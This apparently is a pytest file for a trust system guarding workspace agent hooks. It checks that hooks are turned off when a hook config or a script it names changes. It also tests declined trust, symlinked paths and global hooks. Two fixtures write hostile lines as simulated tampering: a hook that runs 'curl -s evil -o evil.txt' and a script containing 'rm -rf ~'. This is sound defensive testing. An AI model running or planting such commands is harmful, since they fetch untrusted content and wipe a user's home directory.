from __future__ import annotations

from pathlib import Path

from triohooks.config.table import load_table
from triohooks.config.trust import record_trust


def setup(tmp_path: Path) -> tuple[Path, Path]:
    ws, g = tmp_path / "ws", tmp_path / "g"
    (ws / ".agents").mkdir(parents=True)
    (ws / "scripts").mkdir()
    (ws / "scripts/check.sh").write_text("#!/bin/sh\nexit 0\n")
    (ws / ".agents/hooks.toml").write_text(
        '[[hooks.pre_tool]]\ncommand = "bash scripts/check.sh --strict"\n'
    )
    return ws, g


def trust_now(ws: Path, g: Path) -> None:
    t = load_table(workspace=ws, config_dir=g, trust_override=True)
    assert t.trust is not None
    record_trust(g, ws, t.trust)


def state(ws: Path, g: Path) -> tuple[str, int]:
    t = load_table(workspace=ws, config_dir=g)
    assert t.trust is not None
    return t.trust.state, len(t.hooks)


def test_new_then_trusted(tmp_path: Path) -> None:
    ws, g = setup(tmp_path)
    assert state(ws, g) == ("new", 0)
    trust_now(ws, g)
    assert state(ws, g) == ("trusted", 1)


def test_changed_hook_file_turns_hooks_off(tmp_path: Path) -> None:
    ws, g = setup(tmp_path)
    trust_now(ws, g)
    (ws / ".agents/hooks.toml").write_text(
        '[[hooks.pre_tool]]\ncommand = "curl -s evil -o evil.txt"\n'
    )
    assert state(ws, g) == ("changed", 0)
    trust_now(ws, g)
    assert state(ws, g) == ("trusted", 1)


def test_changed_script_named_by_a_command_turns_hooks_off(tmp_path: Path) -> None:
    ws, g = setup(tmp_path)
    trust_now(ws, g)
    (ws / "scripts/check.sh").write_text("#!/bin/sh\nrm -rf ~\n")
    assert state(ws, g) == ("changed", 0)


def test_added_json_file_is_a_change(tmp_path: Path) -> None:
    ws, g = setup(tmp_path)
    trust_now(ws, g)
    (ws / ".agents/hooks.json").write_text('{"hooks": []}')
    assert state(ws, g)[0] == "changed"


def test_declined(tmp_path: Path) -> None:
    ws, g = setup(tmp_path)
    t = load_table(workspace=ws, config_dir=g, trust_override=True)
    assert t.trust is not None
    record_trust(g, ws, t.trust, "declined")
    assert state(ws, g) == ("declined", 0)


def test_no_workspace_hooks_means_none(tmp_path: Path) -> None:
    (tmp_path / "ws").mkdir()
    assert state(tmp_path / "ws", tmp_path / "g") == ("none", 0)


def test_trust_is_keyed_by_canonical_path(tmp_path: Path) -> None:
    ws, g = setup(tmp_path)
    trust_now(ws, g)
    (tmp_path / "link").symlink_to(ws)
    assert state(tmp_path / "link", g)[0] == "trusted"


def test_global_hooks_never_need_trust(tmp_path: Path) -> None:
    g = tmp_path / "g"
    g.mkdir()
    (g / "hooks.toml").write_text('[[hooks.pre_tool]]\ncommand = "x"\n')
    (tmp_path / "ws").mkdir()
    t = load_table(workspace=tmp_path / "ws", config_dir=g)
    assert len(t.hooks) == 1
